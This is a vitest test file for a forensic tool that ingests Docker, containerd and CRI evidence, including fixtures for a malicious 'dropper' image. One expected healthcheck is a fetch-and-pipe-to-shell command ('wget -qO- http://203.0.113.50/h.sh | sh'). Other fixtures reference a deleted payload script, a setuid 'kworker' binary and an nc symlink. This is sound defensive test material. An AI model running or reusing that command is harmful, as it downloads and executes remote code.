import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { analyze } from '../src/analyze.js';
import { FIXTURES_DIR } from './support/rule-cases.js';

// The docker / containerd / CRI ingesters over the real fixtures: what lands in the case DB.
const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

async function load(files: Record<string, string>) {
  const dir = mkdtempSync(join(tmpdir(), 'cf-docker-ingest-'));
  dirs.push(dir);
  for (const [path, fixture] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    cpSync(join(FIXTURES_DIR, fixture), join(dir, path));
  }
  const result = await analyze([dir], { write: false, keepDb: true, rules: [] });
  const db = result.db!.sql;
  const all = (sql: string, ...params: unknown[]) => db.prepare(sql).all(...params) as Record<string, unknown>[];
  return { db, all, kinds: Object.fromEntries(all('select path, kind from files').map((r) => [r.path, r.kind])), close: () => result.db!.close() };
}

describe('docker container evidence', () => {
  it('keeps the command of each HEALTHCHECK: CMD-SHELL through /bin/sh -c, exec-form CMD as is, NONE as none (real dockerd)', async () => {
    const { all, close } = await load({ 'docker/inspect.json': 'docker/inspect-healthcheck.json' });
    const byName = Object.fromEntries(all('select name, healthcheck from containers').map((r) => [r.name, r.healthcheck === null ? null : JSON.parse(String(r.healthcheck))]));
    expect(byName).toEqual({
      'cf-fixture-hc-web': ['/bin/sh', '-c', 'wget -q --spider http://127.0.0.1:8080/healthz || exit 1'],
      'cf-fixture-hc-exec': ['/bin/ls', '/tmp'],
      'cf-fixture-hc-off': null,
      'cf-fixture-hc-dropper': ['/bin/sh', '-c', 'wget -qO- http://203.0.113.50/h.sh | sh'],
    });
    close();
  });
});

describe('docker image evidence', () => {
  it('recognises and loads image inspect, history, images, ps, diff and volumes', async () => {
    const hex = 'd62a7f1c552130e27e16b078bfd7396f76834c27efd6d5efb53188b0dc928040';
    const { all, kinds, close } = await load({
      [`docker/images/${hex}/inspect.json`]: 'docker/images/clean-inspect.json',
      'docker/images/x/history.jsonl': 'docker/images/dropper-history.jsonl',
      'docker/images.jsonl': 'docker/images.jsonl',
      'docker/ps.jsonl': 'docker/ps.jsonl',
      'docker/containers/0000000000000000000000000000000000000000000000000000000000000001/diff.txt': 'docker/diff-writer.txt',
      'docker/volumes-inspect.json': 'docker/volumes-inspect.json',
    });
    expect(kinds).toMatchObject({
      [`docker/images/${hex}/inspect.json`]: 'docker-image-inspect',
      'docker/images/x/history.jsonl': 'docker-history',
      'docker/images.jsonl': 'docker-images',
      'docker/ps.jsonl': 'docker-ps',
      'docker/volumes-inspect.json': 'docker-volume-inspect',
    });
    expect(all('select image_id, source from images where source = ?', 'inspect')).toEqual([{ image_id: `sha256:${hex}`, source: 'inspect' }]);
    const history = all('select step, created_by, size_bytes, empty_layer, image_id from image_history order by step');
    expect(history).toHaveLength(12);
    expect(history[0]).toMatchObject({ step: 0, size_bytes: 1_980_000, empty_layer: 0 });
    expect(history.at(-2)).toMatchObject({ size_bytes: 12_600_000 });
    expect(history.at(-1)).toMatchObject({ empty_layer: 1 });
    // the newest step's ID names the image when the path does not
    const dropperId = (JSON.parse(readFileSync(join(FIXTURES_DIR, 'docker/images/dropper-inspect.json'), 'utf8')) as { Id: string }[])[0]!.Id;
    expect(history[0]!.image_id).toBe(dropperId);
    expect(all("select repository, tag, registry from image_refs where tag = '1' order by repository").map((r) => r.repository)).toContain('docker.io/cf-fixture/dropper');
    expect(all('select count(*) n from docker_ps')[0]!.n).toBe(3);
    const diffs = all('select change, path, container_id from container_diffs');
    expect(diffs).toContainEqual({ change: 'A', path: '/etc/cron.d/sync', container_id: '0'.repeat(63) + '1' });
    expect(all('select name, driver from volumes')).toEqual([{ name: 'cf-fixture-an-data', driver: 'local' }]);
    close();
  });

  it('reads a docker save archive layer by layer, with whiteouts, modes and history steps', async () => {
    const { all, kinds, close } = await load({ 'docker/save/cf-fixture_dropper_1.tar.gz': 'docker/save-dropper.tar.gz' });
    expect(Object.values(kinds)).toEqual(['docker-save']);
    const layers = all('select layer_index, created_by, files_added, files_deleted, bytes from image_layers order by layer_index');
    // docker save stores identical (empty) layers once: 10 layers in the manifest, 8 tars
    expect(layers).toHaveLength(8);
    expect(layers.every((l) => l.layer_index !== null)).toBe(true);
    expect(layers[0]!.created_by).toBe('');
    expect(String(layers[2]!.created_by)).toContain('COPY file:');
    expect(String(layers.at(-1)!.created_by)).toContain('dd if=/dev/zero');
    const deleted = all("select l.layer_index from layer_files f join image_layers l on l.id = f.layer_row where f.op = 'delete' and f.path = '/tmp/payload.sh'");
    expect(deleted).toHaveLength(1);
    expect(Number(deleted[0]!.layer_index)).toBeGreaterThan(2);
    const setuid = all("select mode from layer_files where path = '/usr/local/bin/kworker'");
    expect((Number(setuid[0]!.mode) & 0o4000) !== 0).toBe(true);
    expect(all("select count(*) n from layer_files where path = '/usr/bin/nc' and type = 'symlink'")[0]!.n).toBe(1);
    expect(all("select repo_tags from images where source = 'save'")[0]!.repo_tags).toBe('["cf-fixture/dropper:1"]');
    close();
  });
});

describe('containerd and CRI evidence', () => {
  it('reads ctr containers info into the container model', async () => {
    const { all, close } = await load({
      'containerd/cf-fixture/containers/cf-plain/info.json': 'containerd/info-cf-plain.json',
      'containerd/cf-fixture/containers/cf-privileged/info.json': 'containerd/info-cf-privileged.json',
      'containerd/cf-fixture/containers/cf-hostnet/info.json': 'containerd/info-cf-hostnet.json',
      'containerd/cf-fixture/containers/cf-hostpid/info.json': 'containerd/info-cf-hostpid.json',
      'containerd/cf-fixture/containers/cf-caps-mounts/info.json': 'containerd/info-cf-caps-mounts.json',
      'containerd/cf-fixture/containers/cf-hardened/info.json': 'containerd/info-cf-hardened.json',
    });
    const rows = Object.fromEntries(
      all('select container_id, runtime, privileged, pid_mode, network_mode, user, readonly_rootfs, seccomp_profile from containers').map((r) => [r.container_id, r]),
    );
    expect(rows['cf-plain']).toMatchObject({ runtime: 'containerd', privileged: 0, pid_mode: null, network_mode: null, user: '0', seccomp_profile: 'unconfined' });
    expect(rows['cf-privileged']).toMatchObject({ privileged: 1 });
    expect(rows['cf-hostnet']).toMatchObject({ network_mode: 'host', pid_mode: null });
    expect(rows['cf-hostpid']).toMatchObject({ pid_mode: 'host' });
    expect(rows['cf-hardened']).toMatchObject({ readonly_rootfs: 1, seccomp_profile: 'runtime/default' });
    const caps = all("select k.capability, k.action from container_capabilities k join containers c on c.id = k.container_row where c.container_id = 'cf-caps-mounts' order by 1");
    expect(caps).toEqual([{ capability: 'SYS_ADMIN', action: 'add' }, { capability: 'SYS_PTRACE', action: 'add' }]);
    const mounts = all("select m.source, m.destination, m.read_only from container_mounts m join containers c on c.id = m.container_row where c.container_id = 'cf-caps-mounts' order by 1");
    expect(mounts).toEqual([
      { source: '/etc', destination: '/host/etc', read_only: 1 },
      { source: '/run/containerd/containerd.sock', destination: '/run/containerd/containerd.sock', read_only: 0 },
    ]);
    close();
  });
});
